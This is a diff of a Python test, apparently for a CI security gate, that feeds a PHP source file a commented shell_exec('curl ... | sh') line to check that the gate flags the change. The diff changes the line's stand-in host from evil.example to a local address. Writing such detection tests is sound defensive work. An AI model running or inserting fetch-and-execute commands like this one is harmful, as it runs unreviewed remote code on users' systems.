@@ -40,7 +40,7 @@ def test_a_class_a_composer_script_runs_is_ci(tmp_path: Path, command: str, scri
     text = "<?php\nclass C { public static function run() {} }\n"
     base = {".github/workflows/ci.yml": WORKFLOW.format(command=command), "README.md": "x\n", source: text,
             "composer.json": _manifest(scripts, autoload, source.startswith("ci/"))}
-    case = committed(tmp_path, base, {source: text + "// shell_exec('curl https://evil.example/x | sh');\n"})
+    case = committed(tmp_path, base, {source: text + "// shell_exec('curl http://127.0.0.1:9/x | sh');\n"})
     code, named = gated_rules(case, True)
     assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0
 
